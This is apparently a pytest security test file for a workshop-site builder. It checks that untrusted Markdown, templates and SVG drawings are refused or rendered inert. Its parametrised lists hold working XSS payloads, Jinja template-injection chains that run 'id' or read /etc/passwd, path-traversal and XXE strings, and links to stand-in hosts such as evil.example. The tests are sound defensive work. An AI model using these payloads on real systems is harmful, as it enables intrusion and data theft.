"""Untrusted content: everything under workshops/ and docs/<lang>/ may be hostile.

Each rule is tested with real attack strings: reading outside the repository (../, absolute
paths, symbolic links), raw HTML and addresses that would run scripts, template code that
would read the build machine's files or settings, and hostile drawings.
"""
from __future__ import annotations

import html
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from jinja2 import Environment
from jinja2.exceptions import SecurityError, TemplateNotFound, UndefinedError

from teachforward.build import build, load_and_check, unsafe_output
from teachforward.cli import main
from teachforward.content.html_policy import html_findings, markdown_findings, svg_findings
from teachforward.content.template_policy import template_findings
from teachforward.site.macros_sandbox import sandboxed_environment

WS = "workshops/en/01-basics"


def errors_of(tree) -> list[str]:
    _, problems = load_and_check(tree.root)
    return [p.format() for p in problems.sorted() if p.severity == "error"]


# --- raw HTML and addresses in Markdown ---------------------------------------------------

REFUSED_MARKDOWN = [
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<body onload="alert(1)">',
    '<a href="javascript:alert(1)">slides</a>',
    '<a href="JaVaScRiPt:alert(1)">slides</a>',
    '<a href="java&#x09;script:alert(1)">slides</a>',
    '<a href=" &#106;avascript:alert(1)">slides</a>',
    '<a href="vbscript:msgbox(1)">slides</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">slides</a>',
    "[slides](javascript:alert(1))",
    "[slides](data:text/html,<script>alert(1)</script>)",
    "![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[slides][1]\n\n[1]: javascript:alert(1)",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example/"><input name="password"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</div>',
    '<details ontoggle="alert(1)" open>x</details>',
    '[slides](https://example.org/){: onclick="alert(1)" }',
    "## Heading {: onmouseover=alert(1) }",
    "<marquee>old</marquee>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
]

ALLOWED_MARKDOWN = [
    "Press <kbd>Ctrl</kbd>+<kbd>P</kbd>, then <abbr title=\"General Data Protection Regulation\">GDPR</abbr>.",
    "x<sup>2</sup>, H<sub>2</sub>O, <mark>important</mark>, <br>",
    '<details markdown><summary>More</summary>\n\nHidden text.\n\n</details>',
    '<div markdown class="note">A <a href="https://example.org/" title="x">link</a></div>',
    "`<script>alert(1)</script>` is how an attack looks.",
    "```html\n<script>alert(1)</script>\n<iframe src=x></iframe>\n```",
    "Visit <https://example.org/> or write to <union@example.org>.",
    "If pay < minimum and hours > 48, raise it. Sort <3 items.",
    "[the rota exercise](exercises/01-rota.md) and [wrap-up](#wrap-up){: .button }",
    "<!-- a comment, even with <script> in it -->",
]


@pytest.mark.parametrize("text", REFUSED_MARKDOWN)
def test_dangerous_markdown_is_refused(text):
    assert markdown_findings(text), text


@pytest.mark.parametrize("text", ALLOWED_MARKDOWN)
def test_harmless_markdown_is_allowed(text):
    assert markdown_findings(text) == []


def test_findings_name_the_line():
    text = "Line one.\n\nLine three.\n<img src=x onerror=alert(1)>\n"
    assert [line for line, _, _ in markdown_findings(text)] == [4, 4]


def test_html_in_notes_is_refused_with_file_and_line(tree):
    tree.replace(f"{WS}/notes.md", "Closing words", 'Closing <span onclick="steal()">words</span>')
    tree.replace(f"{WS}/guide.md", "- Print handouts.", "- Print handouts.\n\n<iframe src=https://evil.example></iframe>")
    found = "\n".join(errors_of(tree))
    assert f'{WS}/notes.md:18: error: the event handler attribute "onclick" on <span> is not allowed' in found
    assert f"{WS}/guide.md:5: error: the HTML element <iframe> is not allowed" in found


def test_html_in_yaml_text_is_refused(tree):
    # Workshop titles reach the menu and the page title of every page of the language.
    tree.replace("workshops/fr/01-basics/workshop.yaml", "    term: Données", '    term: "<img src=x onerror=alert(1)>"')
    found = "\n".join(errors_of(tree))
    assert 'workshops/fr/01-basics/workshop.yaml:19: error: the event handler attribute "onerror"' in found


def test_html_in_a_page_front_matter_is_refused(tree):
    tree.replace("docs/en/glossary.md", "# Glossary", '---\ntitle: "<script>alert(1)</script>"\n---\n# Glossary')
    assert any("docs/en/glossary.md" in e and "<script>" in e for e in errors_of(tree))


def test_plain_text_html_check():
    assert html_findings("Workers & bosses: 3 < 4") == []
    assert html_findings("<b onmouseover=x>bold</b>")


# --- template code ---------------------------------------------------------------------------

TEMPLATE_ATTACKS = [
    "{{ config }}",
    "{{ environment }}",
    "{{ config.docs_dir }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../etc/passwd' %}",
    "{% import 'x.md' as x %}",
    "{{ macros_info() }}",
    "{{ now() }}",
    "{{ render_file('/etc/passwd') }}",
    "{{ glossary.__class__ }}",
    "{{ glossary | attr('__class__') }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{% set x = config %}",
    "{{ workshop_cards ~ config }}",
]


@pytest.mark.parametrize("attack", TEMPLATE_ATTACKS)
def test_template_attacks_in_site_pages_are_refused(tree, attack):
    tree.replace("docs/en/index.md", "Welcome.", f"Welcome.\n\n{attack}")
    found = errors_of(tree)
    assert any(e.startswith("docs/en/index.md:5: error:") and "not allowed in a site page" in e for e in found), found


@pytest.mark.parametrize("text", ["{{ workshop_cards }}", "{{ workshop_table }}", "{{glossary}}", '{{ "{{ glossary }}" }}',
                                  "{% raw %}{{ config }}{% endraw %}", "## Data {#data}", "{## a comment ##}"])
def test_the_known_variables_are_allowed(text):
    assert template_findings(text) == []


def test_template_code_in_a_translated_page_names_its_line(tree):
    tree.write("docs/fr/glossary.md", "# Glossaire\n\n{{ glossary }}\n\n{{ environment }}\n")
    assert any(e.startswith("docs/fr/glossary.md:5: error:") for e in errors_of(tree))


def test_sandbox_refuses_what_the_check_would_also_refuse():
    env = sandboxed_environment(Environment(comment_start_string="{##", comment_end_string="##}"))
    variables = {"glossary": "GLOSSARY", "workshop_cards": "CARDS", "workshop_table": "TABLE"}
    assert env.from_string("{{ glossary }} {## c ##} {#id}").render(**variables) == "GLOSSARY  {#id}"
    with pytest.raises(SecurityError):
        env.from_string("{{ ''.__class__.__mro__[1].__subclasses__() }}").render(**variables)
    with pytest.raises(SecurityError):
        env.from_string("{{ glossary | attr('__class__') }}").render(**variables)
    with pytest.raises(UndefinedError):
        env.from_string("{{ config }}").render(**variables)
    with pytest.raises(UndefinedError):
        env.from_string("{{ environment }}").render(**variables)
    with pytest.raises((TemplateNotFound, TypeError)):
        env.from_string("{% include '/etc/passwd' %}").render(**variables)


def english_only(tree):
    """The fixture without its French, so that a site builds in two MkDocs runs instead of four."""
    shutil.rmtree(tree.path("workshops/fr"))
    shutil.rmtree(tree.path("docs/fr"))


@pytest.mark.slow
@pytest.mark.parametrize("attack, expected", [
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "unsafe"),
    ("{{ config.docs_dir }}", "undefined"),
    ("{{ environment }}", "undefined"),
    ("{% include 'index.md' %}", "no loader"),
])
def test_site_pages_render_in_the_sandbox(tree, tmp_path, attack, expected):
    """Even if the check were skipped, the build's macros cannot reach Python or the files."""
    from teachforward.site.build import build_language, environment_fingerprint
    english_only(tree)
    tree.replace("docs/en/index.md", "Welcome.", f"Welcome. {attack}")
    course, _ = load_and_check(tree.root)      # the check refuses it; build anyway, as an attacker would wish
    result = build_language(course, course.source, tmp_path / "work" / "en", [], {}, environment_fingerprint())
    assert not result.ok
    assert expected in result.log.lower()
    page = result.site_dir / "index.html"
    assert not page.exists() or "root:x:0:0" not in page.read_text(encoding="utf-8")


# --- hostile drawings ------------------------------------------------------------------------

@pytest.mark.parametrize("svg", [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="../../../../../etc/hostname"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://tracker.example/p.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="x"/></foreignObject></svg>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(https://evil.example/p.svg#g)"/></svg>',
])
def test_hostile_drawings_are_refused(svg):
    assert svg_findings(svg)


def test_ordinary_drawings_are_accepted():
    for path in sorted(Path(__file__).resolve().parent.parent.glob("workshops/*/*/images/*.svg")):
        assert svg_findings(path.read_text(encoding="utf-8")) == [], path


# --- nothing outside the repository -----------------------------------------------------------

def outside(tmp_path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                                       "<title>SECRET-OUTSIDE</title></svg>", encoding="utf-8")
    (folder / "notes.md").write_text("## Stolen {#stolen}\n\n- SECRET-OUTSIDE\n- two\n", encoding="utf-8")
    (folder / "page.md").write_text("# SECRET-OUTSIDE\n", encoding="utf-8")
    return folder


def test_a_docs_language_folder_linked_outside_is_refused(tree, tmp_path):
    secret = outside(tmp_path)
    shutil.copytree(tree.path("docs/fr"), secret / "docs-fr")
    shutil.rmtree(tree.path("docs/fr"))
    tree.path("docs/fr").symlink_to(secret / "docs-fr")
    course, problems = load_and_check(tree.root)
    assert any(p.path == "docs/fr" and "outside the repository" in p.message for p in problems.errors)


def test_a_link_loop_in_docs_does_not_hang(tree):
    tree.path("docs/en/loop").symlink_to("..")                 # docs/en/loop -> docs/
    tree.path("docs/en/self").symlink_to(".")                   # docs/en/self -> docs/en
    course, problems = load_and_check(tree.root)               # returns: every folder is read once
    assert course is not None


@pytest.mark.parametrize("target", ["../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd",
                                    "C:\\Windows\\win.ini", "\\\\server\\share\\x.png", "images/../../../../../etc/passwd"])
def test_picture_paths_outside_the_course_are_refused(tree, target):
    tree.replace(f"{WS}/notes.md", "(images/recipe.svg)", f"({target})")
    found = "\n".join(errors_of(tree))
    assert f"{WS}/notes.md:11: error: the picture" in found


def test_unused_links_to_outside_files_are_never_copied(tree, tmp_path):
    """A link nobody refers to is never read; one that is referred to is refused (bad_inputs)."""
    secret = outside(tmp_path)
    tree.path(f"{WS}/images/secret.svg").symlink_to(secret / "secret.svg")
    tree.path("docs/en/secret").symlink_to(secret)
    course, problems = load_and_check(tree.root)
    # the docs folder link is refused: pages are found by walking the folder
    assert any(p.path == "docs/en/secret" for p in problems.errors)
    tree.path("docs/en/secret").unlink()
    assert errors_of(tree) == []
    out = tmp_path / "site"
    assert build(tree.root, out, jobs=1, with_decks=False) == 0
    assert not any("SECRET-OUTSIDE" in text for _, text in every_text(out))


# --- attack strings in prose and translations are shown, never run ----------------------------

PROSE_ATTACKS = ["{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}",
                 "{{ environment }}", "{% for k in range(3) %}LOOP{% endfor %}"]


def every_text(folder: Path):
    """(name, text) of every file of a built site, including what is inside zips and decks."""
    for path in sorted(folder.rglob("*")):
        if not path.is_file():
            continue
        if path.suffix in (".zip", ".pptx"):
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    yield f"{path}:{name}", archive.read(name).decode("utf-8", "replace")
        else:
            yield str(path), path.read_bytes().decode("utf-8", "replace")


@pytest.mark.slow
def test_template_syntax_in_prose_and_translations_is_shown_as_text(tree, tmp_path, monkeypatch):
    monkeypatch.setenv("TEACHFORWARD_TEST_SECRET", "secret-environment-value-4817")
    joined = " / ".join(PROSE_ATTACKS)
    tree.replace(f"{WS}/notes.md", "Closing words", f"Attack: {joined}. Closing words")
    tree.replace("workshops/fr/01-basics/workshop.yaml", "summary: Un petit atelier pour les tests.",
                 f'summary: "Résumé {joined}"')
    tree.replace("workshops/fr/01-basics/workshop.yaml", "    definition: Informations enregistrées, mot unique ornithorynque.",
                 "    definition: \"Définition {{ config }} {% include '/etc/passwd' %}\"")
    assert errors_of(tree) == []
    out = tmp_path / "site"
    assert build(tree.root, out, jobs=2) == 0
    notes = html.unescape(re.sub(r"<[^>]+>", "", (out / "en/workshops/01-basics/notes.html").read_text(encoding="utf-8")))
    for attack in PROSE_ATTACKS:
        assert attack.replace("__", "") in notes      # shown as written (Markdown makes __class__ bold)
    overview = html.unescape((out / "fr/workshops/01-basics/index.html").read_text(encoding="utf-8"))
    assert "{{ config }}" in overview and "{% include '/etc/passwd' %}" in overview
    home = html.unescape((out / "fr/index.html").read_text(encoding="utf-8"))      # the cards macro shows the summary
    assert f"Résumé {joined}" in home
    glossary = html.unescape((out / "fr/glossary.html").read_text(encoding="utf-8"))
    assert "Définition {{ config }} {% include '/etc/passwd' %}" in glossary
    for name, text in every_text(out):
        assert "root:x:0:0" not in text, name
        assert "secret-environment-value-4817" not in text, name
        assert "LOOPLOOP" not in text, name
        assert str(tree.root) not in text, name             # {{ config }} would show the build's paths


# --- the output folder ---------------------------------------------------------------------------

@pytest.mark.parametrize("out", [".", "workshops", "docs", "docs/en", "workshops/en/01-basics", "mkdocs.yml", "..", "build"])
def test_build_refuses_to_replace_sources(tree, capsys, out):
    before = sorted(p.relative_to(tree.root).as_posix() for p in tree.root.rglob("*"))
    assert main(["--root", str(tree.root), "build", "--out", out, "--no-decks"]) == 1
    assert "error:" in capsys.readouterr().out
    assert sorted(p.relative_to(tree.root).as_posix() for p in tree.root.rglob("*")) == before


def test_build_refuses_a_folder_that_is_not_a_site(tree, tmp_path):
    notes = tmp_path / "my-notes"
    notes.mkdir()
    (notes / "thesis.odt").write_text("years of work", encoding="utf-8")
    assert unsafe_output(tree.root, notes) is not None
    assert unsafe_output(tree.root, tmp_path / "new-folder") is None
    assert unsafe_output(tree.root, tree.root / "site") is None
